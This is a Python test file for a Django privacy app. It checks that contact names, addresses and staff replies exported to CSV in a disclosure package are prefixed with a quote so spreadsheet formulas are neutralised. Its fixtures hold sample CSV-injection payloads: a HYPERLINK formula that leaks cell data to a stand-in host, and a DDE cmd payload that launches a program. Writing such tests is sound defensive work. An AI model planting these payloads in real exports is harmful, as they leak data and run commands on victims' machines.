"""CSV injection (issue 17 row 10; OWASP "CSV Injection"): a contact named `=HYPERLINK(...)`,
cells starting with `+`, `-`, `@`, tab or carriage return, and staff reply text reach the CSVs
of the disclosure package prefixed with a single quote, on the PostgreSQL COPY path (bulk
categories such as contacts) and on the Python path alike; data.json keeps the original text.
"""

import csv
import io
import json
import zipfile

import pytest
from django.db import connection

from accounts_app.services import data as services_data
from accounts_app.sources import ContactSource
from ccucaas_privacy.csv_safe import csv_cell
from requests_app.models import DisclosurePackage
from requests_app.services import filing, transitions
from requests_app.services.packages import _pg_bulk_sql, package_write, private_storage

pytestmark = [pytest.mark.django_db, pytest.mark.rule("P21"), pytest.mark.usefixtures("file_dirs")]

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")'
FORMULAS = [HYPERLINK, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1"]
REPLY = '=HYPERLINK("https://evil.example/","open")'


@pytest.fixture
def attacked(make_user):
    """A user whose contacts (names and addresses) are formulas, and a safe contact."""
    user = make_user("formula-victim", email="victim@example.jp")
    for index, name in enumerate(FORMULAS):
        services_data.contact_create(user=user, name=name, email=f"c{index}@example.org",
                                     postal_address=name)
    services_data.contact_create(user=user, name="Taro - Contact", email="taro@example.org",
                                 postal_address="Tokyo")
    return user


def _csv(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))


def _build(user, request=None) -> zipfile.ZipFile:
    out = io.BytesIO()
    if request is None:
        request = filing.request_file(type="disclosure", channel="portal", details={},
                                        subject=user)[0]
    package_write(request=request, user=user, out=out, now=request.received_at)
    return zipfile.ZipFile(io.BytesIO(out.getvalue()))


def test_csv_cell_prefixes_every_formula_start_and_leaves_other_values():
    for value in FORMULAS:
        assert csv_cell(value) == "'" + value
    for value in ("Taro", "a=b", " =1", "'=already", "", 42, -5, None, 1.5):
        assert csv_cell(value) == value


def test_p21_contacts_csv_neutralises_formula_cells_and_data_json_keeps_them(attacked):
    """contacts is a bulk category: on PostgreSQL its CSV is written by COPY."""
    assert (_pg_bulk_sql(ContactSource(), attacked) is not None) == (
        connection.vendor == "postgresql")
    archive = _build(attacked)
    rows = _csv(archive, "contacts.csv")
    assert [row["name"] for row in rows] == ["'" + value for value in FORMULAS] + ["Taro - Contact"]
    assert [row["postal_address"] for row in rows] == ["'" + v for v in FORMULAS] + ["Tokyo"]
    assert rows[-1]["email"] == "taro@example.org" and rows[0]["created_at"]
    data = json.loads(archive.read("data.json"))["categories"]["contacts"]
    names = [dict(zip(data["columns"], row, strict=True))["name"] for row in data["rows"]]
    assert names == [*FORMULAS, "Taro - Contact"]


def test_p21_copy_and_python_paths_write_the_same_neutralised_csv(attacked, monkeypatch):
    request = filing.request_file(type="disclosure", channel="portal", details={},
                                    subject=attacked)[0]
    copied = _build(attacked, request).read("contacts.csv")
    monkeypatch.setattr(ContactSource, "bulk", False)  # the Python writer for the same rows
    assert _pg_bulk_sql(ContactSource(), attacked) is None
    written = _build(attacked, request).read("contacts.csv")
    rows = list(csv.DictReader(io.StringIO(written.decode(), newline="")))
    assert [row["name"] for row in rows] == ["'" + value for value in FORMULAS] + ["Taro - Contact"]
    if connection.vendor == "postgresql":  # COPY wrote `copied`: the same cells
        copy_rows = list(csv.DictReader(io.StringIO(copied.decode(), newline="")))
        keys = ("name", "email", "postal_address", "phone")
        assert [[r[k] for k in keys] for r in copy_rows] == [[r[k] for k in keys] for r in rows]


def test_p21_staff_reply_text_is_neutralised_in_the_request_history_csv(
        attacked, officer, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        request, _sent = filing.request_file(type="disclosure", channel="portal", details={},
                                               subject=attacked)
        transitions.request_reply(request=request, actor=officer, text=REPLY)
    package = DisclosurePackage.objects.get(request=request)
    with private_storage().open(package.file_name, "rb") as f:
        archive = zipfile.ZipFile(io.BytesIO(f.read()))
    history = _csv(archive, "request_history.csv")
    assert [row["reply_text"] for row in history] == ["'" + REPLY]
    assert _csv(archive, "contacts.csv")[0]["name"] == "'" + HYPERLINK
